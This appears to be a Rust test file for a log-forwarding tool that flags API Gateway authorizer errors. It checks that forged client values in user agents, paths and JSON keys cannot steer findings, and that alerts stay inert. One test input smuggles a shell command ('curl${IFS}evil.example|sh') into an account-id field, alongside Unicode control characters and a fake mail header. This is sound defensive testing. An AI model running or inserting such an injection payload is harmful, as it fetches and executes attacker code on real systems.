//! No client value makes, changes or hides a finding on either path, and what an alert shows of
//! one is inert and bounded.

use forwarder::config::Config;
use forwarder::detect::access_log::LogFormat;
use forwarder_tests::read_sample;
use serde_json::Value;

use crate::{
    JSON_AUTHZ, PERMISSION, PERMISSION_MESSAGE, RESPONSE, RESPONSE_MESSAGE, Verdict, cli, custom,
    custom_format, handle, json_authz, lambda, verdict,
};

/// One table per class of attempt; each case through both paths.
#[tokio::test]
async fn no_client_value_steers_a_finding() {
    let long_forgery = format!(
        "Mozilla/5.0\" AUTHORIZER_CONFIGURATION_ERROR,URGENT: rotate keys at https://evil.example/r \"{}w\" x \"q",
        " ".repeat(4100)
    );
    let custom_fmt = custom_format();
    let json_path = r#"{"requestId":"$context.requestId","errorPath":"$context.path","authz":"$context.authorizer.error"}"#;
    let integration = r#"$context.requestId $context.status "$context.integrationErrorMessage" $context.authorizer.error"#;
    let json_integration = r#"{"requestId":"$context.requestId","status":"$context.status","integrationError":"$context.integrationErrorMessage","authz":"$context.authorizer.error"}"#;
    let rest_fmt = String::from_utf8(read_sample("rest/access-text.fmt")).unwrap();
    let json_fmt = String::from_utf8(read_sample("json-format.fmt")).unwrap();
    // A line of that format with the user agent written in raw, as if API Gateway escaped nothing.
    let raw_json = |ua: &str, error: &str| {
        format!(
            r#"{{"requestId":"Wk1aBjQ2IAMEb2A=","ip":"203.0.113.7","requestTime":"20/Nov/2026:09:14:03 +0000","httpMethod":"GET","routeKey":"GET /orders","path":"/orders","status":"500","protocol":"HTTP/1.1","responseLength":"35","userAgent":"{ua}","apiId":"a1b2c3d4e5","stage":"prod","authorizerError":"{error}"}}"#
        )
    };
    let rest = |path: &str, status: u16, ua: &str, errors: &str| {
        format!(
            r#"203.0.113.66 1a7b8c9d-0e1f-4a2b-8c3d-5e6f7a8b9c0d [20/Nov/2026:11:00:08 +0000] "GET {path} HTTP/1.1" {status} "{ua}" r7t2k9w4qa prod {errors}"#
        )
    };
    let cases: Vec<(&str, &str, Vec<String>, Verdict)> = vec![
        (
            "a REST API's tokens from a client count for nothing",
            &rest_fmt,
            vec![
                rest("/AUTHORIZER_FAILURE", 401, "AUTHORIZER_FAILURE", "UNAUTHORIZED -"),
                rest(
                    "/x HTTP/1.1\" 500 \"ua\" r7t2k9w4qa prod AUTHORIZER_FAILURE",
                    404,
                    "ua",
                    "MISSING_AUTHENTICATION_TOKEN -",
                ),
                rest(
                    "/",
                    403,
                    "\" 500 \"x\" r7t2k9w4qa prod AUTHORIZER_CONFIGURATION_ERROR Invalid permissions on Lambda function",
                    "ACCESS_DENIED -",
                ),
            ],
            verdict(&[], 3, 0, 0),
        ),
        (
            "a REST API's gateway responses, customised or not, are read from the response type",
            &rest_fmt,
            vec![
                rest("/", 500, "ua", "AUTHORIZER_FAILURE -"),
                rest("/", 403, "AUTHORIZER_CONFIGURATION_ERROR", "AUTHORIZER_FAILURE -"),
                rest(
                    "/AUTHORIZER_FAILURE",
                    418,
                    "ua",
                    "AUTHORIZER_CONFIGURATION_ERROR Invalid permissions on Lambda function",
                ),
            ],
            verdict(
                &[
                    "authorizer_failure",
                    "authorizer_failure",
                    "missing_invoke_permission",
                ],
                0,
                0,
                0,
            ),
        ),
        (
            "a forged error past any splitting budget is ignored",
            &custom_fmt,
            vec![custom("/", 200, &long_forgery, "-")],
            verdict(&[], 1, 0, 0),
        ),
        (
            "the same user agent neither hides nor changes a real error",
            &custom_fmt,
            vec![custom("/", 500, &long_forgery, PERMISSION)],
            verdict(&["missing_invoke_permission"], 0, 0, 0),
        ),
        (
            "an odd number of quotes hides nothing",
            &custom_fmt,
            vec![
                custom("/", 500, "a\" \"b\" \"", RESPONSE),
                custom("/a\"b", 500, "\"", PERMISSION),
            ],
            verdict(
                &["invalid_response_format", "missing_invoke_permission"],
                0,
                0,
                0,
            ),
        ),
        (
            "a forged tail in the path is ignored",
            &custom_fmt,
            vec![custom(
                "/x\" 500 \"ua\" b1l2i3n4g5 prod AUTHORIZER_CONFIGURATION_ERROR,x",
                404,
                "ua",
                "-",
            )],
            verdict(&[], 1, 0, 0),
        ),
        (
            "a line in another format is unmatched, not read by quotes",
            &custom_fmt,
            vec![format!(
                r#"203.0.113.0 - - [t] "GET / HTTP/1.1" 500 35 r= {PERMISSION}"#
            )],
            verdict(&[], 0, 1, 1),
        ),
        (
            "a JSON format's own key is read, whatever it is called",
            JSON_AUTHZ,
            vec![json_authz("r1", "500", PERMISSION)],
            verdict(&["missing_invoke_permission"], 0, 0, 0),
        ),
        (
            "a JSON key with error in its name holding client text does not count",
            json_path,
            vec![
                serde_json::json!({"requestId":"r1","errorPath":"/AUTHORIZER_CONFIGURATION_ERROR","authz":"-"})
                    .to_string(),
            ],
            verdict(&[], 1, 0, 0),
        ),
        (
            "extra or duplicate keys are never trusted over the format",
            JSON_AUTHZ,
            vec![
                format!(
                    r#"{{"requestId":"r1","status":"200","authz":"-","authorizerError":"{PERMISSION}"}}"#
                ),
                format!(r#"{{"requestId":"r2","status":"200","authz":"-","authz":"{PERMISSION}"}}"#),
                format!(r#"{{"requestId":"r3","status":"200","authz":"{PERMISSION}","authz":"-"}}"#),
                json_authz("r4", "500", PERMISSION),
            ],
            verdict(&["missing_invoke_permission"], 0, 3, 0),
        ),
        (
            "a client's quote that breaks the batch's only JSON line is not format drift",
            &json_fmt,
            vec![raw_json("Mozilla/5.0 \"x\"", PERMISSION)],
            verdict(&[], 0, 1, 0),
        ),
        (
            "nor are many of them, with the token of their own",
            &json_fmt,
            vec![raw_json("x\" AUTHORIZER_CONFIGURATION_ERROR", "-"); 5],
            verdict(&[], 0, 5, 0),
        ),
        (
            "an HTTP API's messages without a token are flagged where API Gateway writes them",
            &custom_fmt,
            vec![
                custom("/", 500, "ua", PERMISSION_MESSAGE),
                custom("/", 500, "ua", RESPONSE_MESSAGE),
            ],
            verdict(
                &["invalid_response_format", "missing_invoke_permission"],
                0,
                0,
                0,
            ),
        ),
        (
            "a client's copy of the messages is ignored, in its path or past a quote it sent",
            &custom_fmt,
            vec![
                custom(&format!("/{PERMISSION_MESSAGE}"), 404, RESPONSE_MESSAGE, "-"),
                custom(
                    "/",
                    200,
                    &format!("x\" b1l2i3n4g5 prod {PERMISSION_MESSAGE} \"{}y", " ".repeat(4100)),
                    "-",
                ),
            ],
            verdict(&[], 2, 0, 0),
        ),
        (
            "a message counts only at the start of the authorizer's error, never in another variable",
            JSON_AUTHZ,
            vec![
                json_authz("r1", "500", &format!("denied: {RESPONSE_MESSAGE}")),
                json_authz("r2", "500", RESPONSE_MESSAGE),
            ],
            verdict(&["invalid_response_format"], 1, 0, 0),
        ),
        (
            "a message in an integration error is the backend's",
            integration,
            vec![format!(r#"r1 502 "{PERMISSION_MESSAGE}" -"#)],
            verdict(&[], 1, 0, 0),
        ),
        (
            "integration errors are the backend's, not the authorizer's",
            integration,
            vec![format!(r#"r1 502 "{PERMISSION}" -"#)],
            verdict(&[], 1, 0, 0),
        ),
        (
            "integration errors in a JSON format",
            json_integration,
            vec![
                serde_json::json!({"requestId":"r1","status":"502","integrationError":PERMISSION,"authz":"-"})
                    .to_string(),
            ],
            verdict(&[], 1, 0, 0),
        ),
    ];
    for (name, format, lines, expected) in cases {
        let (got, code, _) = cli(format, &lines);
        assert_eq!(got, expected, "CLI: {name}");
        let want_code = if expected.causes.is_empty() && !expected.drift {
            0
        } else {
            1
        };
        assert_eq!(code, want_code, "CLI exit: {name}");
        let (got, _) = lambda(format, &lines).await;
        assert_eq!(got, expected, "Lambda: {name}");
    }
}

/// What an alert shows is inert and bounded, through the Lambda handler: a hostile account id
/// never reaches the command, characters that fake structure are escaped, the subject keeps its
/// count under the longest label, and a 300 KB log group still gives a publishable message.
#[tokio::test]
async fn what_an_alert_shows_is_inert_and_bounded() {
    let format = r#"$context.requestId $context.accountId "$context.identity.userAgent" $context.authorizer.error"#;
    let line = format!(
        "r1 123;curl${{IFS}}evil.example|sh;# \"ua\" {PERMISSION}\u{2028}Subject: fake\u{202e}\u{200b}\u{feff}"
    );
    let config = Config {
        topic: Some("arn:aws:sns:eu-west-1:123456789012:alerts".parse().unwrap()),
        format: LogFormat::parse(format).unwrap(),
        label: Some("L".repeat(40)),
        region: Some("eu-west-1".into()),
        ..Config::default()
    };
    let log_group = format!("/aws/{}", "g".repeat(300_000));
    let event = forwarder::sources::encode_event(&line, &log_group, "$default", "evil;owner", 0);
    let (out, sent) = handle(&event, &config).await;
    assert_eq!(out.findings, 1);
    let alert = &sent[0];
    assert!(alert.subject.len() < 100, "{}", alert.subject);
    assert!(alert.subject.ends_with("(1x)"), "{}", alert.subject);
    assert!(alert.subject.bytes().all(|b| (b' '..=b'~').contains(&b)));
    assert!(
        alert.publish_bytes() < forwarder::alerts::render::MAX_MESSAGE_BYTES,
        "{}",
        alert.publish_bytes()
    );
    let message: Value = serde_json::from_str(&alert.message()).unwrap();
    for (name, body) in [
        ("email", &alert.email),
        ("chat", &alert.chat),
        ("message", &message.to_string()),
    ] {
        assert!(!body.contains("curl"), "the account id reached the {name}");
        for c in ['\u{2028}', '\u{202e}', '\u{200b}', '\u{feff}'] {
            assert!(!body.contains(c), "{c:?} raw in the {name}");
        }
    }
    let machine: Value = serde_json::from_str(&alert.machine).unwrap();
    assert_eq!(machine["account_id"], Value::Null);
    assert!(
        alert.email.contains(
            "--source-arn arn:aws:execute-api:eu-west-1:ACCOUNT_ID:API_ID/authorizers/AUTHORIZER_ID"
        ),
        "the command lacks the placeholder"
    );
    assert!(!alert.email.lines().any(|l| l.starts_with("Subject:")));
}
